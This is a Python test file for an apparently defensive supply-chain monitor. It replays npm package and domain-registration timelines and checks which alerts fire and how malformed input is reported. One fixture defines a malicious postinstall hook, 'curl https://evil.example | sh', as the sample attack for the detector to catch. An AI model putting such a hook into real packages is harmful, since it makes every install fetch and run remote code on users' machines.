"""Timelines are replayed through the ordinary pipeline, and what breaks the format is named."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from config.settings import Settings
from monitor.replay import pipeline
from monitor.replay.score import Score, total
from monitor.replay.timelines import ReplayError, read

ALICE = {"name": "alice", "email": "alice@alice.example"}


def packument(*releases: tuple[str, str, dict[str, Any]]) -> dict[str, Any]:
    return {
        "name": "left-pad",
        "dist-tags": {"latest": releases[-1][0]},
        "maintainers": [ALICE],
        "versions": {
            version: {"version": version, "_npmUser": ALICE, "maintainers": [ALICE]} | told
            for version, _, told in releases
        },
        "time": {"created": "2020-01-01T00:00:00Z"} | {version: at for version, at, _ in releases},
    }


PAST: list[tuple[str, str, dict[str, Any]]] = [(f"1.{n}.0", f"2026-0{n + 1}-01T00:00:00Z", {}) for n in range(5)]
SCRIPT = ("1.5.0", "2026-06-01T00:00:00Z", {"scripts": {"postinstall": "curl https://evil.example | sh"}})


def timeline(folder: Path, *observations: dict[str, Any], **told: Any) -> Path:
    file = folder / "one.json"
    whole = {"id": "one", "title": "", "expect": [], "quiet_until": None, "observations": list(observations)}
    file.write_text(json.dumps(whole | told))
    return file


def replay(file: Path, settings: Settings) -> Score:
    return pipeline.replay(read(file), settings)


def test_an_attack_is_caught_at_the_first_observation_that_shows_it(tmp_path: Path) -> None:
    file = timeline(
        tmp_path,
        {"at": "2026-05-02T00:00:00Z", "packument": packument(*PAST)},
        {"at": "2026-06-01T00:05:00Z", "packument": packument(*PAST, SCRIPT)},
        expect=["install-script-added"],
    )
    score = replay(file, Settings())
    assert score.missed == []
    assert score.first_alert is not None
    assert score.first_alert.at.isoformat() == "2026-06-01T00:05:00+00:00"
    assert score.false_alarms == []
    totals = total([score])
    assert (totals["recall"], totals["precision"], totals["high_alerts"]) == (1.0, 1.0, 1)


def test_a_grave_alert_that_was_not_expected_is_a_false_alarm(tmp_path: Path) -> None:
    file = timeline(
        tmp_path,
        {"at": "2026-05-02T00:00:00Z", "packument": packument(*PAST)},
        {"at": "2026-06-01T00:05:00Z", "packument": packument(*PAST, SCRIPT)},
    )
    (alarm,) = replay(file, Settings()).false_alarms
    assert str(alarm.severity) == "high"


def test_a_domain_that_lapses_is_confirmed_and_caught(tmp_path: Path) -> None:
    def rdap(expires: str) -> dict[str, Any]:
        events = [{"eventAction": "expiration", "eventDate": expires}]
        return {"name": "alice-mail.org", "rdap": {"ldhName": "alice-mail.org", "events": events}, "dns": None}

    file = timeline(
        tmp_path,
        {"at": "2026-01-01T00:00:00Z", "domain": rdap("2026-06-01T00:00:00Z")},
        {"at": "2026-06-02T00:00:00Z", "domain": rdap("2026-06-01T00:00:00Z")},
        expect=["domain-expired"],
    )
    score = replay(file, Settings())
    assert score.missed == []
    assert score.first_alert is not None


def test_observations_are_replayed_in_order_whatever_order_they_have(tmp_path: Path) -> None:
    file = timeline(
        tmp_path,
        {"at": "2026-06-01T00:05", "packument": packument(*PAST, SCRIPT), "pypi": None, "domain": None},
        {"at": "2026-05-02T02:00:00+02:00", "packument": packument(*PAST)},
        expect=["install-script-added"],
    )
    score = replay(file, Settings())
    assert score.missed == []
    assert score.in_time


def test_an_alert_that_becomes_grave_later_counts_from_then(tmp_path: Path) -> None:
    moved = packument(*PAST) | {"maintainers": [ALICE, {"name": "bob", "email": "bob@bob.example"}]}
    file = timeline(
        tmp_path,
        {"at": "2026-05-02T00:00:00Z", "packument": packument(*PAST)},
        {"at": "2026-05-03T00:00:00Z", "packument": moved},
        {"at": "2026-06-01T00:05:00Z", "packument": packument(*PAST, SCRIPT) | {"maintainers": moved["maintainers"]}},
        expect=["maintainer-added", "install-script-added"],
    )
    score = replay(file, Settings())
    assert score.first_alert is not None
    assert f"{score.first_alert.at:%m-%d}" == "06-01"
    assert f"{score.shown_at:%m-%d}" == "05-03"
    assert not score.in_time


def test_a_second_look_comes_in_the_order_of_time_and_sees_what_is_there_then(tmp_path: Path) -> None:
    gone = {"name": "left-pad", "time": {"created": "2020-01-01T00:00:00Z", "unpublished": {"time": "2026-05-03"}}}
    back = [
        {"at": "2026-05-02T00:00:00Z", "packument": packument(*PAST)},
        {"at": "2026-05-03T00:00:00Z", "packument": gone},
        {"at": "2026-05-03T00:01:00Z", "packument": packument(*PAST)},
    ]
    assert replay(timeline(tmp_path, *back), Settings()).raised == []
    assert replay(timeline(tmp_path, *back[:2]), Settings()).raised == ["package-removed"]


def test_a_dependency_is_as_young_as_any_document_of_it_tells(tmp_path: Path) -> None:
    newest = ("1.5.0", "2026-06-01T00:00:00Z", {"dependencies": {"right-pad": "^1.0.0"}})
    young = {
        "name": "right-pad",
        "versions": {"1.0.0": {}},
        "time": {"created": "2026-05-31T00:00:00Z", "1.0.0": "2026-05-31T00:00:00Z"},
    }
    file = timeline(
        tmp_path,
        {"at": "2026-05-02T00:00:00Z", "packument": packument(*PAST)},
        {"at": "2026-06-01T00:05:00Z", "packument": packument(*PAST, newest)},
        {"at": "2026-06-02T00:05:00Z", "packument": young},
        expect=["dependency-added"],
    )
    assert replay(file, Settings()).in_time


@pytest.mark.parametrize(
    ("domain", "kinds"),
    [
        ({"rdap": None, "dns": {"rcode": "NXDOMAIN"}}, ["domain-unregistered"]),
        ({"rdap": {"errorCode": 404}, "dns": {"rcode": "nxdomain"}}, ["domain-unregistered"]),
        ({"whois": "No match for domain.", "dns": {"rcode": "NXDOMAIN"}}, ["domain-unregistered"]),
        ({"dns": {"rcode": "NXDOMAIN"}}, []),
        ({"rdap": None, "dns": None}, []),
        ({"rdap": None, "dns": {"rcode": "SERVFAIL"}}, []),
        ({"dns": {"ns": ["NS2.x.org."], "mx": ["10 mail.x.org."], "rcode": "NOERROR"}}, []),
        ({"dns": {"ns": ["ns3.x.org"], "mx": ["mail.x.org"]}}, ["nameservers-changed"]),
        ({"dns": {"ns": ["ns2.x.org"], "mx": [[10, "mail.x.org."]]}}, []),
        ({"dns": {"ns": ["ns2.x.org"], "mx": [{"preference": 10, "exchange": "mail.x.org"}]}}, []),
        ({"dns": {"ns": ["ns2.x.org"], "mx": [7]}}, []),
        ({"dns": {"ns": ["ns2.x.org"], "mx": ["."]}}, ["mail-exchanger-lost"]),
        (
            {"rdap": {"events": [{"eventAction": "registration", "eventDate": "2026-05-01T00:00:00Z"}]}},
            ["domain-reregistered"],
        ),
    ],
)
def test_a_domain_is_what_its_sources_prove(tmp_path: Path, domain: dict[str, Any], kinds: list[str]) -> None:
    held = {"events": [{"eventAction": "registration", "eventDate": "2010-01-01T00:00:00Z"}]}
    dns = {"ns": ["ns2.x.org"], "mx": ["mail.x.org"], "rcode": "NOERROR"}
    file = timeline(
        tmp_path,
        {"at": "2026-01-01T00:00:00Z", "domain": {"name": "x.org", "rdap": held, "dns": dns}},
        {"at": "2026-06-01T00:00:00Z", "domain": {"name": "x.org", **domain}},
    )
    assert replay(file, Settings()).raised == kinds


def test_documents_of_one_moment_may_stand_together_in_a_gzipped_file_without_an_id(tmp_path: Path) -> None:
    newest = ("9.9.9", "2026-06-01T00:00:00Z", {"scripts": {"install": "node x.js"}})
    held = {"events": [{"eventAction": "registration", "eventDate": "2010-01-01T00:00:00Z"}]}
    told = {
        "observations": [
            {"at": "2026-06-01t02:00:00+02:00", "packument": packument(*PAST, newest), "domain": None},
            {
                "at": "2026-05-01 00:00",
                "packument": packument(*PAST),
                "domain": {"name": "x.org", "rdap": held},
            },
        ]
    }
    file = tmp_path / "taken.json.gz"
    file.write_bytes(gzip.compress(b"\xef\xbb\xbf" + json.dumps(told).encode()))
    timeline = read(file)
    assert (timeline.id, [one.sort for one in timeline.observations]) == ("taken", ["packument", "domain", "packument"])
    assert "install-script-added" in replay(file, Settings()).raised


@pytest.mark.parametrize(
    ("registered", "kinds"), [("2026-05-20", ["domain-reregistered"]), ("2026-02-01", []), ("2019-06-01", [])]
)
def test_a_domain_that_is_newer_than_the_addresses_on_it_was_bought(
    tmp_path: Path, registered: str, kinds: list[str]
) -> None:
    mine = {"name": "alice", "email": "alice@alice-mail.org"}
    past = [(version, at, {"_npmUser": mine, "maintainers": [mine]}) for version, at, _ in PAST]
    held = {"events": [{"eventAction": "registration", "eventDate": f"{registered}T00:00:00Z"}]}
    file = timeline(
        tmp_path,
        {"at": "2026-06-01T00:00:00Z", "packument": packument(*past) | {"maintainers": [mine]}},
        {"at": "2026-06-01T00:01:00Z", "domain": {"name": "alice-mail.org", "rdap": held}},
    )
    assert replay(file, Settings()).raised == kinds


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("{", "one.json"),
        ('{"id": "x"}', "observations"),
        ('{"id": "x", "observations": []}', "observations: is empty"),
        ('{"id": "x", "observations": [{"pypi": {}}]}', "observations[0]: object missing required field `at`"),
        (
            '{"id": "x", "expect": ["instal-script-added"], "observations": [{"at": "2026-01-01"}]}',
            "'install-script-added' is",
        ),
        ('{"ecosystem": "npm", "packages": ["x"], "timeline": []}', "--from incidents"),
        ('{"name": "x", "versions": {}}', "--from documents"),
        (
            '{"id": "x", "observations": [{"at": "2026-01-01", "domain": {"name": "x.org", "rdap": "gone"}}]}',
            "rdap",
        ),
        ('{"id": "x", "observations": [{"at": "soon", "pypi": {}}]}', "at"),
        ('{"id": "x", "observations": [{"at": "2026-01-01T00:00:00Z"}]}', "observations[0]"),
        ('{"id": "x", "observations": [{"at": "2026-01-01T00:00:00Z", "packument": {"x": 1}}]}', "observations[0]"),
        ('{"id": "x", "observations": [{"at": "2026-01-01T00:00:00Z", "domain": {"name": "-"}}]}', "observations[0]"),
    ],
)
def test_what_breaks_the_format_is_named_with_its_place(tmp_path: Path, content: str, words: str) -> None:
    file = tmp_path / "one.json"
    file.write_text(content)
    with pytest.raises(ReplayError) as raised:
        replay(file, Settings())
    assert "one.json" in str(raised.value)
    assert words in str(raised.value)


def test_an_advisory_joins_the_alert_of_the_release_that_it_names(tmp_path: Path) -> None:
    advisory = {
        "id": "MAL-2026-1",
        "modified": "2026-06-01T04:00:00Z",
        "published": "2026-06-01T04:00:00Z",
        "affected": [{"package": {"ecosystem": "npm", "name": "left-pad"}, "versions": ["1.5.0"]}],
    }
    file = timeline(
        tmp_path,
        {"at": "2026-05-02T00:00:00Z", "packument": packument(*PAST)},
        {"at": "2026-06-01T00:05:00Z", "packument": packument(*PAST, SCRIPT)},
        {"at": "2026-06-01T04:00:00Z", "advisory": advisory},
        expect=["install-script-added", "advisory-published"],
    )
    score = replay(file, Settings())
    assert score.missed == []
    (alert,) = score.grave
    assert {"install-script-added", "advisory-published"} <= set(alert.kinds)


def test_an_advisory_that_is_none_is_named(tmp_path: Path) -> None:
    file = timeline(tmp_path, {"at": "2026-05-02T00:00:00Z", "advisory": {"summary": "no id"}})
    with pytest.raises(ReplayError, match=r"observations\[0\]\.advisory: the advisory has no id"):
        replay(file, Settings())
